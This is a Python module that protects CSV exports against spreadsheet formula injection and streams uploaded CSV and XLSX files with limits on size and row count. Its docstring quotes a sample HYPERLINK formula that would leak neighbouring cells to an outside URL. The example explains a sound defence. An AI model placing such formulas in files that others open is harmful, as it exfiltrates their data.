"""Cells that a spreadsheet opens as data, never as a formula (SPEC section 8), and
spreadsheets read row by row (the registry's import, SPEC section 11).

Excel, LibreOffice and Google Sheets run a cell that begins with `=`, `+`, `-` or `@` (and, after
a tab or carriage return, whatever follows) as a formula: a field set to
`=HYPERLINK("https://…/?leak="&A2,"…")` would send the neighbouring cells away when an auditor
opens the export. Every CSV the app writes passes its text cells through here; the XLSX exports
write text as text cells, which a spreadsheet never runs (oversight/exports.py).
"""

import csv
import io
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import date, datetime
from typing import IO, Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def starts_a_formula(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def csv_safe(value: Any) -> Any:
    """A CSV cell: text that would start a formula gets a leading `'`, which spreadsheets read
    as "this is text" (OWASP's advice for CSV injection)."""
    return f"'{value}" if starts_a_formula(value) else value


# ---- reading -------------------------------------------------------------------------------------
#: The largest spreadsheet read (bytes): ten thousand rows of an inventory take about 5 MB.
SHEET_BYTES_MAX = 50 * 1024 * 1024
#: The most rows read from one sheet (the header not counted).
SHEET_ROWS_MAX = 50_000
SHEET_KINDS = ("csv", "xlsx")


class SheetError(ValueError):
    """The file is not a spreadsheet this reads (the message says why, for the person)."""


@dataclass(frozen=True)
class Sheet:
    """A spreadsheet read lazily: its header row, then each row as text cells with its number
    as the spreadsheet shows it (the header is row 1). Iterating twice reads the file twice."""

    header: list[str]
    open_rows: Callable[[], Iterator[tuple[int, list[str]]]]

    def rows(self) -> Iterator[tuple[int, list[str]]]:
        return self.open_rows()


def sheet_kind(name: str) -> str:
    kind = name.rsplit(".", 1)[-1].lower() if "." in name else ""
    if kind not in SHEET_KINDS:
        raise SheetError("Upload a CSV or XLSX file (its name ends in .csv or .xlsx).")
    return kind


def sheet_read(file: IO[bytes], *, name: str) -> Sheet:
    """Read a CSV (UTF-8, comma or semicolon separated) or an XLSX workbook's first sheet,
    streaming: memory does not grow with the number of rows."""
    kind = sheet_kind(name)
    open_rows = (lambda: _csv_rows(file)) if kind == "csv" else (lambda: _xlsx_rows(file))
    rows = open_rows()
    try:
        number, header = next(rows)
    except StopIteration:
        raise SheetError("The file is empty: its first row names the columns.") from None
    if not any(header):
        raise SheetError("The first row names the columns; it is empty here.")
    return Sheet(
        header=[cell.strip().lower() for cell in header], open_rows=lambda: _body(open_rows)
    )


def _body(
    open_rows: Callable[[], Iterator[tuple[int, list[str]]]],
) -> Iterator[tuple[int, list[str]]]:
    rows = open_rows()
    next(rows, None)  # the header
    for count, (number, cells) in enumerate(rows, start=1):
        if count > SHEET_ROWS_MAX:
            raise SheetError(f"The file has more than {SHEET_ROWS_MAX:,} rows: split it.")
        if any(cells):
            yield number, cells


def _csv_rows(file: IO[bytes]) -> Iterator[tuple[int, list[str]]]:
    file.seek(0)
    text = io.TextIOWrapper(file, encoding="utf-8-sig", newline="")
    try:
        first = text.readline()
        delimiter = ";" if first.count(";") > first.count(",") else ","
        text.seek(0)
        for number, cells in enumerate(csv.reader(text, delimiter=delimiter), start=1):
            yield number, [cell.strip() for cell in cells]
    except UnicodeDecodeError:
        raise SheetError("The CSV file is not UTF-8 text: save it as “CSV UTF-8”.") from None
    except csv.Error as error:
        raise SheetError(f"The CSV file cannot be read: {error}.") from None
    finally:
        text.detach()  # leave the upload open for its owner


def _xlsx_rows(file: IO[bytes]) -> Iterator[tuple[int, list[str]]]:
    # openpyxl is imported on use: it is large, and only XLSX files need it. Read-only mode
    # streams the rows.
    from openpyxl import load_workbook  # noqa: PLC0415
    from openpyxl.utils.exceptions import InvalidFileException  # noqa: PLC0415

    file.seek(0)
    try:
        workbook = load_workbook(file, read_only=True, data_only=True)
    except (InvalidFileException, zipfile.BadZipFile, KeyError, OSError):
        raise SheetError("The file is not an XLSX workbook that can be read.") from None
    try:
        sheet = workbook.worksheets[0]
        for number, values in enumerate(sheet.iter_rows(values_only=True), start=1):
            yield number, [_cell_text(value) for value in values]
    finally:
        workbook.close()


def _cell_text(value: Any) -> str:
    """A cell as the text a person typed: dates as YYYY-MM-DD, 12.0 as 12."""
    if value is None:
        return ""
    if isinstance(value, datetime):
        return value.date().isoformat()
    if isinstance(value, date):
        return value.isoformat()
    if isinstance(value, float) and value.is_integer():
        return str(int(value))
    return str(value).strip()
